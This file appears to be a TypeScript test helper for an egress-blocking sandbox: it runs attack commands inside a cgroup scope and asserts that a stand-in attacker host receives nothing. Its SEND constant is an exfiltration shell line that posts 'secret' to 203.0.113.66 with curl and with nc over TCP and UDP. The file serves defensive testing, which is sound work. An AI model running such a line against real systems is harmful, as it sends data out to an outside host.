/**
 * Attacks: commands that try to reach the attacker from inside a scope.
 *
 * @module
 */

import assert from "node:assert/strict";
import type { Received } from "../../src/demo/received.ts";
import type { Finished } from "./run.ts";
import type { Scene } from "./suite.ts";

/** What the attacks are run under; nothing of the attacker is in it. */
export const POLICY = "site.test\nhttp://site.test/*\nregistry.test";

/** How an attack is run. */
export interface AttackOptions {
  /**
   * A command that, without egress, reaches the attacker; it is run first, to show that the attack is one.
   * Absent: the attack itself. `null`: none, where the attack is on egress itself and there is nothing to
   * attack without it.
   */
  control?: string[] | null;
  /**
   * What shows, without egress, that the attack is one, where that is not the attacker's own server: it is
   * looked for in what the servers received.
   */
  reaches?: (item: Received) => boolean;
  policy?: string;
}

/** Runs a command without egress, and shows that it gets through. */
export async function reach(
  scene: Scene,
  command: string[],
  reaches?: (item: Received) => boolean,
): Promise<void> {
  const [file = "", ...args] = scene.internet.command(command);
  await new Deno.Command(file, { args, stdout: "null", stderr: "null" }).output();
  if (reaches) assert.ok((await scene.received()).some(reaches), "the attack is none");
  else await assert.rejects(scene.attackerGotNothing(), /attacker/, "the attack is none");
  await scene.begin();
}

/** Runs an attack as root in a scope, and shows that it reached nobody. */
export async function attack(
  scene: Scene,
  command: string[],
  options: AttackOptions = {},
): Promise<Finished> {
  const { control = command, policy = POLICY, reaches } = options;
  if (control !== null) await reach(scene, control, reaches);
  const run = await scene.run({ policy, command });
  await scene.attackerGotNothing();
  return run;
}

/** An attack in shell. */
export function inShell(scene: Scene, script: string, options?: AttackOptions): Promise<Finished> {
  return attack(scene, ["bash", "-c", script], options);
}

/** An attack in Python. */
export function inPython(
  scene: Scene,
  program: string,
  options?: AttackOptions,
): Promise<Finished> {
  return attack(scene, ["/usr/bin/python3", "-c", program], options);
}

/** Shell: sends to the attacker by HTTP, TCP and UDP at once, since what is dropped takes its time. */
export const SEND = "(curl -sS -m 2 -d secret http://203.0.113.66/ & " +
  "echo secret | nc -u -w 1 203.0.113.66 9000 & echo secret | nc -N -w 2 203.0.113.66 9000 & wait)";

/** {@link SEND} as a control. */
export const SENDING = ["bash", "-c", SEND];

/** Shell: `run` is the id of the run that it is in, `cg` the folder of its cgroup. */
export const OWN_RUN = `
run=$(sed -n 's|^0::.*/egress-\\([0-9a-f]*\\)/scope$|\\1|p' /proc/self/cgroup)
cg=$(find /sys/fs/cgroup -type d -name "egress-$run" | head -n 1)
[ -n "$cg" ] || { echo "no cgroup of this run"; exit 1; }
`;
